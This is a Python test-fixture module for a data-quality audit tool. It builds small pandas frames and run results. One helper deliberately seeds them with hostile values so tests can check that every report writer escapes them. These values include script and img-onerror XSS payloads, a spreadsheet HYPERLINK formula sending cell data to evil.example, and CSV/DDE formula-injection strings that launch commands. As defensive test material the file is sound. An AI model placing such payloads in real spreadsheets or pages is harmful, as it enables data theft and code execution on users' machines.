"""Small conformed frames for unit tests (datasette make_app_client style)."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pandas as pd

from audit import schema


def make_frame(
    entity: str, n: int | None = None, *, source: str = "t", **columns: list[Any]
) -> pd.DataFrame:
    """A conformed `entity` frame; record ids are '<source>:1', '<source>:2', ..."""
    if n is None:
        n = max((len(v) for v in columns.values()), default=1)
    data: dict[str, list[Any]] = {k: list(v) for k, v in columns.items()}
    for k, v in data.items():
        if len(v) != n:
            raise ValueError(f"column {k} has {len(v)} values, expected {n}")
    frame = pd.DataFrame(data, index=range(n))
    frame["record_id"] = [f"{source}:{i + 1}" for i in range(n)]
    frame["source"] = source
    frame["source_file"] = f"{source}.csv"
    frame["source_row"] = list(range(1, n + 1))
    return schema.conform(frame, entity)


def make_contacts(n: int | None = None, **columns: list[Any]) -> pd.DataFrame:
    return make_frame("contacts", n, **columns)


def make_run_result(
    records: dict[str, pd.DataFrame] | None = None,
    *,
    issues: pd.DataFrame | None = None,
    pairs: pd.DataFrame | None = None,
    clusters: pd.DataFrame | None = None,
    golden: pd.DataFrame | None = None,
    by_dimension: pd.DataFrame | None = None,
    kpis: pd.DataFrame | None = None,
    passed: bool = True,
    reasons: tuple[str, ...] = (),
    quick_wins: tuple[str, ...] = (),
    withheld: dict[str, str] | None = None,
    extras: dict[str, Any] | None = None,
    run_id: str = "20260131T090000-abc123",
    output: dict[str, Any] | None = None,
) -> Any:
    """A RunResult from small real frames; every stage output not given is empty."""
    import datetime as dt

    from audit.config import parse_config
    from audit.model import Ingest, Matches, RunResult, Scorecard, Validation, Verdict

    records = records if records is not None else {"contacts": make_contacts(full_name=["A"])}
    cfg = parse_config(
        {
            "sources": [{"name": "t", "path": "t.csv"}],
            "as_of": "2026-01-31",
            "output": output or {},
        },
        base_dir=None,
    )
    empty = pd.DataFrame()
    counts = pd.DataFrame(
        [
            {
                "source": "t",
                "source_file": "t.csv",
                "entity": e,
                "rows_read": len(f),
                "rows_ingested": len(f),
                "rows_rejected": 0,
            }
            for e, f in sorted(records.items())
        ]
    )
    scorecard = Scorecard(
        overall=0.82,
        by_dimension=by_dimension
        if by_dimension is not None
        else pd.DataFrame(
            {
                "dimension": ["completeness", "validity", "uniqueness"],
                "score": [0.9, 0.7, 0.85],
                "n_checked": [10, 10, 10],
                "n_failed": [1, 3, 2],
            }
        ),
        by_source=empty,
        by_owner=empty,
        by_record=empty,
    )
    return RunResult(
        run_id=run_id,
        as_of=dt.date(2026, 1, 31),
        config=cfg,
        ingest=Ingest(records=records, issues=schema.empty_issues(), counts=counts),
        records=records,
        issues=schema.conform_issues(issues if issues is not None else schema.empty_issues()),
        matches=Matches(
            pairs=pairs if pairs is not None else empty,
            clusters=clusters if clusters is not None else empty,
            golden=golden if golden is not None else empty,
        ),
        scorecard=scorecard,
        verdict=Verdict(
            passed=passed,
            reasons=reasons,
            quick_wins=quick_wins,
            withheld_kpis=withheld or {},
        ),
        kpis=kpis,
        timings={"sources": 0.01},
        extras={"validation": Validation(issues=schema.empty_issues()), **(extras or {})},
    )


HOSTILE_NAME = "<script>document.title='PWNED'</script>"
HOSTILE_IMG = "<img src=x onerror=\"document.title='PWNED'\">"
HOSTILE_FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def hostile_run_result(**kwargs: Any) -> Any:
    """A RunResult whose every stage output carries hostile values, emails and phones.

    For the report safety contract: every writer must escape, neutralize and redact these.
    """
    contacts = make_contacts(
        full_name=[HOSTILE_NAME, "김민수", "佐藤 花子", HOSTILE_IMG],
        email=["kim.minsu@example.com", HOSTILE_FORMULA, "hanako@example.jp", "@SUM(1+1)*cmd"],
        phone=["+82 10-1234-5678", "-2+3+cmd|' /C calc'!A0", "+81 90-1111-2222", "\t=1+1"],
        company=["(주)한빛", "+cmd", "株式会社 さくら", "\rX"],
        owner=["=cmd", "rep_b", "rep_a", "rep_b"],
        extra=['{"note": "call 010-2222-3333 or mail lee@example.org"}', None, None, None],
    )
    email_events = make_frame(
        "email_events",
        source="inbox",
        address=["kim.minsu@example.com", "x@example.net"],
        event=["bounce", "sent"],
        classification=["hard", None],
        status=["5.1.1", None],
        reason=[HOSTILE_NAME + " user unknown", None],
        message_index=[1, 2],
    )
    issues = pd.DataFrame(
        {
            "record_id": ["t:1", "t:2", "t:4"],
            "entity": ["contacts"] * 3,
            "field": ["email", "phone", "full_name"],
            "rule_id": ["contacts.email.valid", "contacts.phone.valid", "contacts.name.html"],
            "dimension": ["validity", "validity", "consistency"],
            "severity": ["error", "warning", "info"],
            "message": [f"bad email {HOSTILE_FORMULA}", "phone +82 10-1234-5678 odd", HOSTILE_IMG],
            "value": [HOSTILE_FORMULA, "+82 10-1234-5678", HOSTILE_NAME],
            "suggestion": ["=1+1", None, "@x"],
            "evidence": ["bounced kim.minsu@example.com", None, None],
        }
    )
    pairs = pd.DataFrame(
        {
            "record_id_l": ["t:1"],
            "record_id_r": ["t:4"],
            "score": [0.97],
            "band": ["auto"],
            "rule_id": ["match.duplicate.probable"],
            "sim_full_name": [0.8],
            "explanation": [HOSTILE_NAME],
        }
    )
    clusters = pd.DataFrame(
        {
            "cluster_id": ["c1", "c1"],
            "record_id": ["t:1", "t:4"],
            "band": ["auto", "auto"],
            "is_survivor": [True, False],
        }
    )
    golden = pd.DataFrame(
        {
            "cluster_id": ["c1"],
            "full_name": [HOSTILE_NAME],
            "email": ["kim.minsu@example.com"],
            "phone": ["+82 10-1234-5678"],
        }
    )
    kpis = pd.DataFrame(
        {
            "kpi_id": ["churn_rate", "nps"],
            "title": [HOSTILE_NAME, "=NPS()"],
            "period": ["2026-Q1", "2026-Q1"],
            "value": [0.041, 32.0],
            "unit": ["ratio", "score"],
            "n": [100, 50],
        }
    )
    breakdowns = {
        "lead_source": pd.DataFrame({"lead_source": [HOSTILE_NAME, "web"], "deals": [3, 5]})
    }
    impact = pd.DataFrame(
        {
            "kpi_id": ["churn_rate"],
            "raw": [0.041],
            "clean": [0.063],
            "unit": ["ratio"],
            "cause": [f"merged 2 duplicates of {HOSTILE_NAME} kim.minsu@example.com"],
        }
    )
    history = [
        {
            "run_id": "20260101T090000-aaaaaa",
            "as_of": "2026-01-01",
            "overall": 0.7,
            "passed": False,
            "n_records": 4,
            "n_issues": 9,
            "n_duplicate_pairs": 2,
            "dimensions": {"completeness": 0.8, "validity": 0.6},
        },
    ]
    defaults: dict[str, Any] = dict(
        records={"contacts": contacts, "email_events": email_events},
        issues=issues,
        pairs=pairs,
        clusters=clusters,
        golden=golden,
        kpis=kpis,
        passed=False,
        reasons=(f"validity 0.70 < 0.90 {HOSTILE_NAME}",),
        quick_wins=(f"fix {HOSTILE_FORMULA} emails: +0.05",),
        withheld={"clv": f"orders.amount completeness 0.5 < 0.9 {HOSTILE_IMG}"},
        extras={"breakdowns": breakdowns, "impact": impact, "history": history},
    )
    defaults.update(kwargs)
    return make_run_result(**defaults)


def demo_config(workspace: Path) -> Path:
    """The config file of a generated demo workspace."""
    return next(Path(workspace).glob("*.yaml"))
